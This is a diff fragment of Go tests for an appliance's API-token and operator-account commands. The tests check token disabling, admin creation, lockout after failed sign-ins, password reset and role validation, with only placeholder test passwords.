+	if _, _, err := run("create", "--name", "wallboard"); err == nil || !strings.Contains(err.Error(), "exists already") {
+		t.Fatalf("the same name twice: %v", err)
+	}
+	out, _, err = run("list")
+	if err != nil || !strings.Contains(out, id+"  wallboard  operator  enabled") || strings.Contains(out, secret[len(secret)-16:]) {
+		t.Fatalf("list: %v\n%s", err, out)
+	}
+	if out, _, err := run("disable", id); err != nil || !strings.Contains(out, "is disabled") {
+		t.Fatalf("disable: %v %s", err, out)
+	}
+	if code := api(); code != http.StatusUnauthorized {
+		t.Fatalf("the disabled token on the API: %d", code)
+	}
+	if out, _, err := run("list"); err != nil || !strings.Contains(out, "disabled") {
+		t.Fatalf("list after disable: %v\n%s", err, out)
+	}
+	if _, _, err := run("create", "--name", "x", "--role", "root"); err != appliance.ErrUsage {
+		t.Fatalf("a bad role: %v", err)
+	}
+	if _, _, err := run("disable", "ffff"); err == nil || !strings.Contains(err.Error(), "no API token") {
+		t.Fatalf("disabling an unknown token: %v", err)
+	}
+}
+
+func TestSetup_OperatorCommand(t *testing.T) {
+	n := mustNodes(t, 1)[0]
+	dataDir := dataDir(n)
+	if fi, err := os.Stat(filepath.Join(dataDir, auth.SetupTokenFileName)); err != nil || fi.Mode().Perm() != 0o600 {
+		t.Fatalf("token file: %v %v", fi, err)
+	}
+	pw := filepath.Join(t.TempDir(), "pw")
+	if err := os.WriteFile(pw, []byte("a strong first password\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	run := func(args ...string) (string, error) {
+		var out, errOut bytes.Buffer
+		err := appliance.OperatorCommand(context.Background(), args, appliance.CommandEnv{
+			Stdout: &out, Stderr: &errOut, Stdin: strings.NewReader("from stdin 12345\n"),
+			LoadConfig: func(string) (string, string, error) { return dataDir, n.HTTPAddr(), nil },
+		})
+		return out.String() + errOut.String(), err
+	}
+	out, err := run("create", "--admin", "--id", "ada", "--name", "Ada Lovelace", "--password-file", pw)
+	if err != nil || !strings.Contains(out, "operator ada (Ada Lovelace, admin, enabled) created") {
+		t.Fatalf("create: %v\n%s", err, out)
+	}
+	if _, err := run("create", "--admin", "--id", "ada", "--password-file", pw); err == nil {
+		t.Fatal("creating ada twice worked")
+	}
+	s := newHTTPSession(t, baseURL(n))
+	if code := s.signIn("ada", "a strong first password"); code != http.StatusOK {
+		t.Fatalf("the new admin cannot sign in: %d", code)
+	}
+	for range monitoring.MaxFailedLogins {
+		newHTTPSession(t, baseURL(n)).signIn("ada", "wrong wrong wrong")
+	}
+	if out, err := run("password", "--id", "ada", "--password-file", "-"); err != nil || !strings.Contains(out, "unlocked") {
+		t.Fatalf("password: %v %s", err, out)
+	}
+	if code := newHTTPSession(t, baseURL(n)).signIn("ada", "from stdin 12345"); code != http.StatusOK {
+		t.Fatalf("after a new password: %d", code)
+	}
+	out, err = run("list")
+	if err != nil || !strings.Contains(out, "ada  Ada Lovelace  admin  enabled") {
+		t.Fatalf("list: %v\n%s", err, out)
+	}
+	if out, err := run("create", "--id", "x", "--password-file", pw, "--role", "root"); err == nil {
+		t.Fatalf("a bad role: %s", out)
+	}
+	if _, err := run("frobnicate"); err != appliance.ErrUsage {
+		t.Fatalf("an unknown subcommand: %v", err)
+	}
+}
